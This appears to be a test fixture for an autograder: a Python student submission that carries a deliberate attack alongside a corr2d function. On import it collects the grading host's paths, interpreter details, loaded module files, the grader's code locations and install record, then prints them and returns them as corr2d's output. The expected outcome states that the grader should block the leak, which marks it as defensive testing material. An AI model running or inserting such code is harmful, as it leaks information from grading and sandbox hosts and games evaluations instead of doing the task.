"""Attack (appended to an honest solution): learn where the instructor's checkout is from what Python knows:
sys.path, sys.prefix, sys.base_prefix, sys.executable, sys.orig_argv, the configuration's paths (sysconfig,
site), every loaded module's __file__ and __spec__.origin, the co_filename of every function of the grader's
modules (the harness, the probes), an editable install's finder, and the grader's installation record; then send
it all back in the output and as corr2d's return value (which the report shows as what the student returned).

Expected: 100 - corr2d (20) = 80, and no path of the grading machine's checkout or venv in the result.
"""
import json as _json
import site as _site
import sys as _sys
import sysconfig as _sysconfig
import types as _types


def _loot():
    found = {"path": list(_sys.path), "prefix": _sys.prefix, "base_prefix": _sys.base_prefix,
             "exec_prefix": _sys.exec_prefix, "executable": _sys.executable,
             "base_executable": getattr(_sys, "_base_executable", None), "argv": list(_sys.argv),
             "orig_argv": list(getattr(_sys, "orig_argv", [])), "sysconfig_paths": _sysconfig.get_paths(),
             "sysconfig_prefix": _sysconfig.get_config_var("prefix"), "site_packages": _site.getsitepackages(),
             "meta_path": [repr(finder) for finder in _sys.meta_path], "path_hooks": [repr(h) for h in _sys.path_hooks]}
    files, code_files, mappings = set(), set(), {}
    for name, module in list(_sys.modules.items()):
        files.add(str(getattr(module, "__file__", None)))
        spec = getattr(module, "__spec__", None)
        files.add(str(getattr(spec, "origin", None)))
        files.update(str(p) for p in (getattr(spec, "submodule_search_locations", None) or []))
        if "editable" in name:
            mappings[name] = {k: repr(v) for k, v in vars(module).items() if k.isupper()}
        if name.startswith(("grader", "__main__")) or "probes" in name:
            for value in list(vars(module).values()):
                code = getattr(value, "__code__", None)
                if isinstance(code, _types.CodeType):
                    code_files.add(code.co_filename)
    found.update(files=sorted(files), code_files=sorted(code_files), editable=mappings)
    try:
        from importlib import metadata

        dist = metadata.distribution("grader")
        found["grader_dist"] = {"direct_url": dist.read_text("direct_url.json"),
                                "located": str(dist.locate_file("grader"))}
    except Exception as exc:  # noqa: BLE001
        found["grader_dist"] = repr(exc)
    return found


_LOOT = _loot()
# How much each channel gave (short, so that it is kept whole), then everything it gave.
print("HOST-PATHS-SEEN " + _json.dumps({key: len(str(value)) for key, value in _LOOT.items()}))
print("HOST-PATHS " + _json.dumps(_LOOT))


def corr2d(X, K):
    return _json.dumps({k: _LOOT[k] for k in ("path", "prefix", "base_prefix", "executable", "orig_argv",
                                                "code_files", "editable", "grader_dist")})
